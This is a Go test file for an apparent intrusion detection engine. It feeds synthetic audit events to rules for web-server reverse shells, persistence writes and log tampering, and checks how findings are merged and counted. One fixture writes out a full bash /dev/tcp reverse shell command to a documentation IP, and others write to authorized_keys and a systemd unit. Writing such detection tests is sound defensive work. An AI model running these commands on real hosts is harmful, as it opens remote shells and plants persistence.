package detect

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestOneFindingPerAct: several rules on one event are one finding that
// names them all; distinct targets of one process are distinct findings.
func TestOneFindingPerAct(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(200, 1, 33, "www-data", "/", "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
	fs := e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"), s.tree)
	if len(fs) != 1 {
		t.Fatalf("one exec: %d findings %v, want 1", len(fs), ids(fs))
	}
	f := fs[0]
	if len(f.RuleIDs) < 2 || !slices.Contains(f.RuleIDs, "web-server-reverse-shell") || !slices.Contains(f.RuleIDs, "web-server-exploitation") {
		t.Errorf("rule ids %v: want every rule that matched", f.RuleIDs)
	}
	if f.RuleIDs[0] != f.RuleID {
		t.Errorf("rule ids %v: the primary %s first", f.RuleIDs, f.RuleID)
	}
	if f.Severity != SeverityCritical { // web-server-reverse-shell's
		t.Errorf("severity %v: want the strongest of the matches", f.Severity)
	}

	// one process, two persistence mechanisms: two acts
	s.exec(210, 200, 33, "www-data", "/var/www", "/usr/bin/python3.11", "python3", "/var/www/html/x.py")
	a := e.Observe(s.file(parser.KindFileWrite, 210, 200, 33, "/usr/bin/python3.11", "/var/www/.ssh/authorized_keys", true), s.tree)
	b := e.Observe(s.file(parser.KindFileWrite, 210, 200, 33, "/usr/bin/python3.11", "/etc/systemd/system/x.service", true), s.tree)
	if has(a, "web-persistence-file-write") == nil || has(b, "web-persistence-file-write") == nil {
		t.Errorf("authorized_keys then a unit: %v then %v, want a finding for each", ids(a), ids(b))
	}
	// the same file again is the same act
	if c := e.Observe(s.file(parser.KindFileWrite, 210, 200, 33, "/usr/bin/python3.11", "/etc/systemd/system/x.service", true), s.tree); len(c) != 0 {
		t.Errorf("second write of the unit: %v, want none", ids(c))
	}
	// two peers of one process are two acts, two ports of one peer one
	// (inline code: a site script apache runs is a CGI program, whose
	// connections are the application's: cgiprogram.go)
	s.exec(220, 200, 33, "www-data", "/var/www", "/usr/bin/python3.11", "python3", "-c", "import socket,os;s=socket.socket()")
	p1 := e.Observe(s.connect(220, 200, 33, "/usr/bin/python3.11", "203.0.113.9", 443), s.tree)
	p2 := e.Observe(s.connect(220, 200, 33, "/usr/bin/python3.11", "198.51.100.4", 443), s.tree)
	p3 := e.Observe(s.connect(220, 200, 33, "/usr/bin/python3.11", "198.51.100.4", 8443), s.tree)
	if len(p1) != 1 || len(p2) != 1 || len(p3) != 0 {
		t.Errorf("connects to two peers then a second port: %v %v %v, want 1 1 0 findings", ids(p1), ids(p2), ids(p3))
	}
}

// TestTargetsCutCounted: a rule reports at most maxTargetsPerKind targets
// per process and kind; what it leaves out is counted, never silent.
func TestTargetsCutCounted(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	e.Observe(s.exec(400, 1, 33, "www-data", "/", "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start"), s.tree)
	e.Observe(s.exec(401, 400, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "python3 -c 'x'"), s.tree)
	e.Observe(s.exec(402, 401, 33, "www-data", "/var/www", "/usr/bin/python3.11", "python3", "-c", "x"), s.tree)
	n := 0
	for i := 0; i < maxTargetsPerKind+5; i++ {
		n += len(e.Observe(s.connect(402, 401, 33, "/usr/bin/python3.11", "203.0.113."+strconv.Itoa(i+1), 443), s.tree))
	}
	cut, bound := e.TargetsCut()
	if bound != maxTargetsPerKind || cut == 0 || n == 0 {
		t.Errorf("%d findings, %d matches cut (bound %d): want some of each", n, cut, bound)
	}
}

// TestMergeKeepsAStage: tampering with the evidence sorts first and has no
// stage of its own; when another rule placed the same act on a stage (a
// log wipe that is also the chain's cleanup), the merged finding keeps
// that stage and says which rule placed it.
func TestMergeKeepsAStage(t *testing.T) {
	tamper := &Finding{RuleID: "tamper", Title: "Audit Log Deleted", Severity: SeverityHigh, Tampering: true, Reason: "audit logs removed"}
	wipe := &Finding{RuleID: "wipe", Title: "Own Files Removed", Severity: SeverityMedium, Stage: StageExfiltrationImpact, Reason: "the chain removes files it wrote"}
	f := mergeAct([]*Finding{wipe, tamper}, []*Rule{{ID: "wipe"}, {ID: "tamper"}})
	if f.RuleID != "tamper" || !f.Tampering {
		t.Fatalf("primary %s (tampering %v), want the tampering rule first", f.RuleID, f.Tampering)
	}
	if f.Stage != StageExfiltrationImpact {
		t.Errorf("stage %v, want %v from the other rule", f.Stage, StageExfiltrationImpact)
	}
	if !strings.Contains(f.Reason, "wipe") {
		t.Errorf("reason %q does not name the rule that placed the stage", f.Reason)
	}
}
